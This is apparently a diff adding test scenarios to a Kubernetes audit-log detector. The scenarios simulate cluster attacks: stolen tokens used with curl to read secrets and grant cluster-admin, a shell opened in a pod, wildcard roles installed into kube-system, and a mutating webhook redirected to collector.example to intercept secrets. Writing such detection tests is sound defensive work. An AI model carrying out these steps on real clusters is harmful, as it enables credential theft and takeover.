@@ -1,7 +1,7 @@
 """The attack that stands in the same log, two hours after what is ordinary: each must still be found, at medium at least.
 An attack gives the name by which a finding must know its actor."""
 from cluster import after, at, binding, pod_spec, role, workload
-from happenings import daemon, installer, opens_a_dashboard, version_operator
+from happenings import attempts, daemon, guard, installer, into_kube_system, nightly, opens_a_dashboard, version_operator, webhook, worked
 
 ALL = []
 TWINS = {}  # a happening's name → an attack of the same shape, which must be found at high
@@ -329,3 +329,46 @@ def login_of_an_admin_gives_all_rights_to_an_old_namespace(c):
         {"kind": "ServiceAccount", "name": "default", "namespace": ns}]))
     c.do(after(T, 60), who, "delete", "clusterrolebindings", name="debug-x7k2p")
     return who.name
+
+
+# ---- attacks of the shape of attempts, of platforms, of certificates and of jobs of the night
+
+@twin_of("attempts-of-an-admin-fail", "attempts-of-an-admin-are-refused-by-admission", "admin-has-lost-a-group-for-an-hour")
+def attempts_from_abroad_and_then_it_is_done(c):
+    who = c.admins[0].but(ip="203.0.113.61", agent="curl/8.5.0")
+    attempts(c, who, T, [404])
+    c.do(after(T, 400), who, "list", "secrets")
+    c.do(after(T, 410), who, "create", "clusterrolebindings", name="keep", body=binding("ClusterRoleBinding", "keep", "cluster-admin", [{"kind": "User", "name": "eve"}]))
+    return who.name
+
+
+@twin_of("platform-operators-update-their-operands")
+def token_of_a_platform_operator_is_used_elsewhere(c):
+    who = worked(c, "platform-dns-operator", "dns-operator", "10.244.1.90", "dns-operator/v0 (linux/amd64)", "system:platform:dns", "cluster-admin").but(ip="10.244.7.99", agent="curl/8.5.0")
+    c.do(T, who, "update", "secrets", "kube-system", "bootstrap-token-abcdef")
+    c.do(after(T, 5), who, "create", "clusterrolebindings", name="dns", body=binding("ClusterRoleBinding", "dns", "cluster-admin", [{"kind": "ServiceAccount", "name": "default", "namespace": c.namespaces[0]}]))
+    return who.name
+
+
+@twin_of("webhook-gets-a-new-certificate-from-its-operator", "webhooks-of-others-get-new-certificates")
+def webhook_gets_a_new_address_with_its_certificate(c):
+    who = guard(c)
+    body = webhook("guard", "guard", "QUJD", clientConfig={"url": "https://collector.example/x", "caBundle": "QUJD"})
+    body["webhooks"][0]["rules"] = [{"apiGroups": [""], "apiVersions": ["v1"], "resources": ["secrets"], "operations": ["*"]}]
+    c.do(T, who, "update", "mutatingwebhookconfigurations", name="guard", body=body)
+    return who.name
+
+
+@twin_of("job-of-the-night-runs-for-the-first-time", "job-of-the-night-runs-since-a-week")
+def token_of_the_night_is_used_by_day_elsewhere(c):
+    who = c.backup.but(ip="10.244.9.91", agent="curl/8.5.0")
+    nightly(c, who, T)
+    c.do(after(T, 30), who, "get", "secrets", "kube-system", "bootstrap-token-abcdef")
+    c.do(after(T, 40), who, "create", "pods", c.namespaces[0], "web-1", "exec", query="command=sh")
+    return who.name
+
+
+@twin_of("autoscaler-is-installed-into-kube-system", "keeper-of-sealed-secrets-is-installed-into-kube-system")
+def pipeline_installs_into_kube_system(c):
+    into_kube_system(c, c.deployer, "node-helper", [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}], T)
+    return c.deployer.name
